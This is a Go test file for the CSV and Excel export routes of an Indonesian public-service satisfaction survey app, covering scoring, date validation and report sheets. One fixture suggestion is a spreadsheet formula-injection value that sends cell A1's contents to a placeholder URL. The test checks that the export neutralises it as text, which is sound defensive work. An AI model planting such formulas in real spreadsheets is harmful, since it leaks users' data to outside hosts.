package web

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"sukma/flows"
	"sukma/report"
	"sukma/scoring"
	"sukma/storage"
	"sukma/storage/storagetest"
)

// exportServer serves only the export routes, as the authenticated mux will.
func exportServer(t *testing.T, db *storage.DB) http.Handler {
	s := New(Deps{DB: db, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), PublicURL: "http://sukma.test",
		AdminToken: "t0ken", Location: time.UTC})
	mux := http.NewServeMux()
	s.exportRoutes(func(p string, h http.HandlerFunc, params ...string) { mux.HandleFunc(p, withParams(h, params)) })
	return mux
}

type exportResp struct {
	unit    storage.Unit
	service *storage.Service
	at      string // RFC 3339
	status  string
	scores  [9]int // 0 = not answered
	jk      string
	usia    *int // nil = not answered
	saran   string
}

// age is an answered age.
func age(n int) *int { return &n }

// storeResponses stores responses as the engine would: a respondent, a session, a response.
func exportStore(t *testing.T, db *storage.DB, rs []exportResp) {
	t.Helper()
	ctx := context.Background()
	if _, err := db.FindLatestFlow(ctx, "skm"); err != nil {
		if _, err := db.PublishFlow(ctx, "skm", flows.Builtin(), "test"); err != nil {
			t.Fatal(err)
		}
	}
	text := func(s string) *string {
		if s == "" {
			return nil
		}
		return &s
	}
	for i, f := range rs {
		at, err := time.Parse(time.RFC3339, f.at)
		if err != nil {
			t.Fatal(err)
		}
		var svc *int64
		if f.service != nil {
			svc = &f.service.ID
		}
		resp := storage.Response{UnitID: f.unit.ID, ServiceID: svc, FlowID: "skm", FlowVersion: 1, Status: f.status,
			FinishedAt: at.UnixMilli(), LocalDay: dayOf(at.UTC()), JenisKelamin: text(f.jk), Saran: text(f.saran)}
		for j, v := range f.scores {
			if v > 0 {
				resp.Scores[j] = &v
			}
		}
		resp.Usia = f.usia
		err = db.InTx(ctx, func(tx *storage.Tx) error {
			if resp.RespondentID, err = tx.Respondent(fmt.Sprintf("web-export-%d", i), at.UnixMilli()); err != nil {
				return err
			}
			resp.SessionID, err = tx.CreateSession(storage.Session{Channel: "web", ChatID: fmt.Sprint("x", i), RespondentID: resp.RespondentID,
				UnitID: f.unit.ID, ServiceID: svc, FlowID: "skm", FlowVersion: 1, Language: "id", StartedAt: at.UnixMilli(),
				UpdatedAt: at.UnixMilli(), ExpiresAt: at.UnixMilli() + 1})
			if err != nil {
				return err
			}
			return tx.InsertResponse(resp)
		})
		if err != nil {
			t.Fatal(err)
		}
	}
}

// exportFixture is two units, a service, complete and partial responses in January and March.
func exportFixtures(t *testing.T, db *storage.DB) []exportResp {
	ctx := context.Background()
	a, err := db.CreateUnit(ctx, storage.NewUnit{Code: "EXA", Name: "Samsat Contoh"})
	if err != nil {
		t.Fatal(err)
	}
	b, err := db.CreateUnit(ctx, storage.NewUnit{Code: "EXB", Name: "RSUD Contoh"})
	if err != nil {
		t.Fatal(err)
	}
	ktp, err := db.CreateService(ctx, storage.NewService{UnitID: a.ID, Code: "PKB", Name: "Pembayaran PKB"})
	if err != nil {
		t.Fatal(err)
	}
	rs := []exportResp{
		{a, &ktp, "2026-01-05T02:30:00Z", storage.ResponseComplete, [9]int{4, 4, 4, 4, 4, 4, 4, 4, 4}, "L", age(34), `Antre "lama", tapi ramah`},
		{b, nil, "2026-01-06T03:00:00Z", storage.ResponseComplete, [9]int{2, 2, 2, 2, 2, 2, 2, 2, 2}, "P", nil, ""},
		{a, nil, "2026-01-07T04:15:00Z", storage.ResponseComplete, [9]int{3, 3, 3, 3, 3, 3, 3, 1, 0}, "", nil, "Toilet kotor"},
		{a, nil, "2026-01-08T05:00:00Z", storage.ResponsePartial, [9]int{1}, "", nil, ""},
		{a, nil, "2026-03-01T05:00:00Z", storage.ResponseComplete, [9]int{3, 3, 3, 3, 3, 3, 3, 3, 3}, "", nil, ""},
		// Complete, but no element scored: exported, yet no respondent (scoring.Scored); its
		// suggestion is a spreadsheet formula, exported as text.
		{a, nil, "2026-04-01T05:00:00Z", storage.ResponseComplete, [9]int{}, "P", age(40), `=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`},
	}
	exportStore(t, db, rs)
	// The third also answered two questions its agency added to the flow.
	if _, err := db.Exec(db.Rebind("UPDATE responses SET lainnya = ? WHERE finished_at = ?"), "asal_info: Dari tetangga\nkunjungan: 2",
		time.Date(2026, 1, 7, 4, 15, 0, 0, time.UTC).UnixMilli()); err != nil {
		t.Fatal(err)
	}
	return rs
}

func exportGet(t *testing.T, h http.Handler, target string) *httptest.ResponseRecorder {
	t.Helper()
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, target, nil))
	return rec
}

func TestResponsesCSV(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		rs := exportFixtures(t, db)
		h := exportServer(t, db)
		const header = "\uFEFFwaktu,unit,nama_unit,layanan,jenis_kelamin,usia,pendidikan,pekerjaan,U1,U2,U3,U4,U5,U6,U7,U8,U9,perbaikan,saran,lainnya\n"
		tests := []struct {
			name, target, filename, body string
		}{
			{"a unit's complete responses of the period are the rows, oldest first",
				"/api/v1/responses.csv?unit=EXA&from=2026-01-01&to=2026-01-31", "skm_EXA_2026-01-01_2026-01-31.csv",
				header +
					`2026-01-05T02:30:00Z,EXA,Samsat Contoh,Pembayaran PKB,L,34,,,4,4,4,4,4,4,4,4,4,,"Antre ""lama"", tapi ramah",` + "\n" +
					"2026-01-07T04:15:00Z,EXA,Samsat Contoh,,,,,,3,3,3,3,3,3,3,1,,,Toilet kotor,\"asal_info: Dari tetangga\nkunjungan: 2\"\n"},
			{"without a unit every unit is exported",
				"/api/v1/responses.csv?from=2026-01-06&to=2026-01-06", "skm_semua_2026-01-06_2026-01-06.csv",
				header + "2026-01-06T03:00:00Z,EXB,RSUD Contoh,,P,,,,2,2,2,2,2,2,2,2,2,,,\n"},
			{"a filter the API does not have is refused, not ignored: the file would hold every unit",
				"/api/v1/responses.csv?agency=EXA&from=2026-01-06&to=2026-01-06", "", ""},
			{"a period without responses gives the header only",
				"/api/v1/responses.csv?unit=EXB&from=2026-02-01&to=2026-02-28", "skm_EXB_2026-02-01_2026-02-28.csv", header},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				rec := exportGet(t, h, tt.target)
				if tt.filename == "" {
					if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "parameter tidak dikenal: agency") {
						t.Errorf("%d %s, want 400 naming the parameter", rec.Code, rec.Body)
					}
					return
				}
				if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
					t.Fatalf("status %d, type %q: %s", rec.Code, rec.Header().Get("Content-Type"), rec.Body)
				}
				if got, want := rec.Header().Get("Content-Disposition"), `attachment; filename="`+tt.filename+`"`; got != want {
					t.Errorf("Content-Disposition %q, want %q", got, want)
				}
				if rec.Body.String() != tt.body {
					t.Errorf("got\n%s\nwant\n%s", rec.Body, tt.body)
				}
			})
		}
		t.Run("sukma score reads the export and counts the respondents the database counts", func(t *testing.T) {
			body := exportGet(t, h, "/api/v1/responses.csv?unit=EXA&from=2026-01-01&to=2026-12-31").Body.String()
			if !strings.Contains(body, `"'=HYPERLINK(""http://contoh.invalid/?d=""&A1,""Klik"")"`) {
				t.Errorf("the complete response that scored no element is not exported, or its formula not as text:\n%s", body)
			}
			tally, err := scoring.ReadCSV(strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			var want scoring.Tally
			for _, s := range [][9]int{{4, 4, 4, 4, 4, 4, 4, 4, 4}, {3, 3, 3, 3, 3, 3, 3, 1, 0}, {3, 3, 3, 3, 3, 3, 3, 3, 3}} {
				want.AddResponse(s)
			}
			if tally != want {
				t.Errorf("read %+v, want %+v", tally, want)
			}
			stored, err := db.Tally(context.Background(), storage.Filter{UnitIDs: []int64{rs[0].unit.ID}, FromDay: 20260101, ToDay: 20261231})
			if err != nil {
				t.Fatal(err)
			}
			if stored != want {
				t.Errorf("the database counts %+v, want %+v", stored, want)
			}
		})
	})
}

func TestExportErrors(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		exportFixtures(t, db)
		h := exportServer(t, db)
		tests := []struct {
			name, target string
			status       int
			want         string
		}{
			{"a bad from date is refused naming the parameter", "/api/v1/responses.csv?from=2026-13-01", 400, `from: "2026-13-01" bukan tanggal YYYY-MM-DD (from: "2026-13-01" is not a date YYYY-MM-DD)`},
			{"a bad to date is refused naming the parameter", "/api/v1/report.xlsx?to=yesterday", 400, `to: "yesterday" bukan tanggal YYYY-MM-DD (to: "yesterday" is not a date YYYY-MM-DD)`},
			{"from after to is refused", "/api/v1/responses.csv?from=2026-02-01&to=2026-01-01", 400, "from: 2026-02-01 sesudah to: 2026-01-01 (from: 2026-02-01 is after to: 2026-01-01)"},
			{"an unknown unit is not found", "/api/v1/report.xlsx?unit=NOPE", 404, `Unit "NOPE" tidak ditemukan (unit "NOPE" not found)`},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				rec := exportGet(t, h, tt.target)
				var body map[string]string
				json.Unmarshal(rec.Body.Bytes(), &body)
				if rec.Code != tt.status || body["error"] != tt.want {
					t.Errorf("status %d, body %s; want %d %q", rec.Code, rec.Body, tt.status, tt.want)
				}
			})
		}
		t.Run("the period defaults to this year up to today", func(t *testing.T) {
			rec := exportGet(t, h, "/api/v1/responses.csv")
			now := time.Now().UTC()
			want := fmt.Sprintf(`attachment; filename="skm_semua_%d-01-01_%s.csv"`, now.Year(), now.Format(time.DateOnly))
			if rec.Code != 200 || rec.Header().Get("Content-Disposition") != want {
				t.Errorf("status %d, %q; want %q", rec.Code, rec.Header().Get("Content-Disposition"), want)
			}
		})
	})
}

// openXLSX fetches a workbook and opens it.
func exportXLSX(t *testing.T, h http.Handler, target string) *excelize.File {
	t.Helper()
	rec := exportGet(t, h, target)
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	f, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// footerValue finds the footer row labelled label in the working sheet and returns column col.
func exportFooter(t *testing.T, f *excelize.File, label, col string) string {
	t.Helper()
	rows, err := f.GetRows(report.SheetPengolahan)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range rows {
		if len(r) > 0 && r[0] == label {
			v, _ := f.GetCellValue(report.SheetPengolahan, fmt.Sprintf("%s%d", col, i+1))
			return v
		}
	}
	t.Fatalf("no footer row %q", label)
	return ""
}

func TestReportXLSX(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		exportFixtures(t, db)
		h := exportServer(t, db)
		t.Run("the footer IKM of a unit equals scoring.Compute's", func(t *testing.T) {
			f := exportXLSX(t, h, "/api/v1/report.xlsx?unit=EXA&from=2026-01-01&to=2026-12-31")
			var tally scoring.Tally
			for _, s := range [][9]int{{4, 4, 4, 4, 4, 4, 4, 4, 4}, {3, 3, 3, 3, 3, 3, 3, 1, 0}, {3, 3, 3, 3, 3, 3, 3, 3, 3}} {
				tally.AddResponse(s)
			}
			res := scoring.Compute(tally, scoring.Bands2017)
			for _, c := range []struct{ label, col, want string }{
				{report.LabelIKM, "B", res.IKM.String()},
				{report.LabelMutu, "B", res.Grade.Mutu},
				{report.LabelSum, "I", "8"},
				{report.LabelN, "J", "2"},
				{report.LabelNRR, "I", "2.6667"},
			} {
				if got := exportFooter(t, f, c.label, c.col); got != c.want {
					t.Errorf("%s %s = %q, want %q", c.label, c.col, got, c.want)
				}
			}
			if v, _ := f.GetCellValue(report.SheetPengolahan, "B2"); v != "EXA — Samsat Contoh" {
				t.Errorf("unit row %q", v)
			}
			if rows, _ := f.GetRows(report.SheetPengolahan); len(rows) != 5+3+8 {
				t.Errorf("%d rows, want title, 3 respondents and footer", len(rows))
			}
		})
		t.Run("without a unit every unit is pooled", func(t *testing.T) {
			f := exportXLSX(t, h, "/api/v1/report.xlsx?from=2026-01-01&to=2026-01-31")
			var tally scoring.Tally
			for _, s := range [][9]int{{4, 4, 4, 4, 4, 4, 4, 4, 4}, {2, 2, 2, 2, 2, 2, 2, 2, 2}, {3, 3, 3, 3, 3, 3, 3, 1, 0}} {
				tally.AddResponse(s)
			}
			want := scoring.Compute(tally, scoring.Bands2017).IKM.String()
			if got := exportFooter(t, f, report.LabelIKM, "B"); got != want {
				t.Errorf("IKM %q, want %q", got, want)
			}
		})
	})
}

// A custom flow may allow age 0. The workbook's profile and the API's (the profile query)
// must band it alike, "<15", and keep a missing age apart, as "Tidak diisi".
func TestReportXLSXBandsAgesAsTheAPIProfileDoes(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		u, err := db.CreateUnit(context.Background(), storage.NewUnit{Code: "USIA", Name: "Posyandu Contoh"})
		if err != nil {
			t.Fatal(err)
		}
		all3 := [9]int{3, 3, 3, 3, 3, 3, 3, 3, 3}
		var rs []exportResp
		for i, a := range []*int{age(0), age(0), nil, age(14), age(15), age(70)} {
			rs = append(rs, exportResp{u, nil, fmt.Sprintf("2026-02-%02dT03:00:00Z", i+1), storage.ResponseComplete, all3, "P", a, ""})
		}
		exportStore(t, db, rs)
		p, err := db.Profile(context.Background(), storage.Filter{UnitIDs: []int64{u.ID}})
		if err != nil {
			t.Fatal(err)
		}
		want := map[string]string{}
		for _, c := range p.Usia {
			want[c.Key] = fmt.Sprint(c.Count)
		}
		if want[scoring.AgeUnder15] != "3" || want["tidak diisi"] != "1" {
			t.Fatalf("the API's profile %+v: want 3 under 15 (0, 0 and 14) and 1 not given", p.Usia)
		}
		f := exportXLSX(t, exportServer(t, db), "/api/v1/report.xlsx?unit=USIA&from=2026-02-01&to=2026-02-28")
		rows, err := f.GetRows(report.SheetProfil)
		if err != nil {
			t.Fatal(err)
		}
		got, in := map[string]string{}, false
		for _, r := range rows {
			switch {
			case len(r) > 0 && r[0] == "Usia":
				in = true
			case len(r) < 2:
				in = false
			case in && r[0] == "Tidak diisi":
				got["tidak diisi"] = r[1]
			case in:
				got[strings.NewReplacer(" tahun", "", "< ", "<", "≥ ", "≥").Replace(r[0])] = r[1]
			}
		}
		if !maps.Equal(got, want) {
			t.Errorf("the workbook's ages %v, the API's %v", got, want)
		}
	})
}

func TestReportXLSXOfDemoData(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		ctx := context.Background()
		if _, err := db.SeedDemo(ctx, storage.DemoOptions{Units: 2, Months: 2, Responses: 150, Seed: 3,
			Now: time.Date(2026, 6, 15, 10, 0, 0, 0, time.UTC)}); err != nil {
			t.Fatal(err)
		}
		u, err := db.FindUnitByCode(ctx, "DEMO-SAMSAT-SBY")
		if err != nil {
			t.Fatal(err)
		}
		var tally scoring.Tally
		err = db.EachResponse(ctx, storage.ExportFilter{UnitID: &u.ID, FromDay: 20260501, ToDay: 20260630}, func(r storage.ResponseRow) error {
			return tally.AddResponse(r.Scores)
		})
		if err != nil {
			t.Fatal(err)
		}
		res := scoring.Compute(tally, scoring.Bands2017)
		f := exportXLSX(t, exportServer(t, db), "/api/v1/report.xlsx?unit=DEMO-SAMSAT-SBY&from=2026-05-01&to=2026-06-30")
		t.Run("the footer IKM equals scoring.Compute's over the same responses", func(t *testing.T) {
			if got := exportFooter(t, f, report.LabelIKM, "B"); got != res.IKM.String() || tally.Respondents < 200 {
				t.Errorf("IKM %q, want %q (%d respondents)", got, res.IKM, tally.Respondents)
			}
		})
		summary, err := f.GetRows(report.SheetRingkasan)
		if err != nil {
			t.Fatal(err)
		}
		after := func(label string) []string { // the row after the one labelled so
			for i, r := range summary[:len(summary)-1] {
				if len(r) > 0 && r[0] == label {
					return summary[i+1]
				}
			}
			t.Fatalf("no row %q in %q", label, summary)
			return nil
		}
		t.Run("the summary lists the weakest element first", func(t *testing.T) {
			if got, weakest := after("No.")[1], report.Ranked(res)[0].Code; got != weakest {
				t.Errorf("first element %q, want %q", got, weakest)
			}
		})
		t.Run("the summary checks the sample against the unit's population over the period", func(t *testing.T) {
			s := scoring.NewPeriodSample(u.Population, tally.Respondents, 61)
			met := map[bool]string{true: "memenuhi", false: "belum memenuhi"}[s.Met]
			want := [][]string{{"Populasi penerima layanan (setahun)", fmt.Sprint(u.Population)},
				{"Sampel minimum untuk 61 hari (Krejcie–Morgan setahun, prorata)", fmt.Sprint(s.Required)}, {"Kecukupan sampel", met}}
			if got := after("Jumlah responden"); u.Population == 0 || len(got) < 2 || got[0] != want[0][0] || got[1] != want[0][1] {
				t.Errorf("got %q, want %q", got, want[0])
			}
			if got := after(want[0][0]); got[1] != want[1][1] {
				t.Errorf("got %q, want %q", got, want[1])
			}
			if got := after(want[1][0]); got[1] != want[2][1] {
				t.Errorf("got %q, want %q", got, want[2])
			}
		})
		t.Run("the summary's trend gives each quarter up to the period's end", func(t *testing.T) {
			var labels []string
			for _, r := range summary {
				if len(r) > 0 && strings.HasPrefix(r[0], "Triwulan ") {
					labels = append(labels, r[0])
				}
			}
			want := []string{"Triwulan I 2025", "Triwulan II 2025", "Triwulan III 2025", "Triwulan IV 2025", "Triwulan I 2026", "Triwulan II 2026"}
			if !slices.Equal(labels, want) {
				t.Errorf("trend %q, want %q (two months of demo data, May and June, and the quarters before without)", labels, want)
			}
		})
		t.Run("a report ending inside a quarter says its trend counts the quarter only up to the end", func(t *testing.T) {
			f := exportXLSX(t, exportServer(t, db), "/api/v1/report.xlsx?unit=DEMO-SAMSAT-SBY&from=2026-05-01&to=2026-05-31")
			rows, _ := f.GetRows(report.SheetRingkasan)
			if !slices.ContainsFunc(rows, func(r []string) bool { return len(r) > 0 && r[0] == "Triwulan II 2026 (s.d. 31 Mei)" }) {
				t.Errorf("no row Triwulan II 2026 (s.d. 31 Mei) in %q", rows)
			}
		})
		t.Run("the profile counts every respondent", func(t *testing.T) {
			if got, _ := f.GetCellValue(report.SheetProfil, "B4"); got != fmt.Sprint(tally.Respondents) {
				t.Errorf("Jumlah responden %q, want %d", got, tally.Respondents)
			}
		})
	})
}
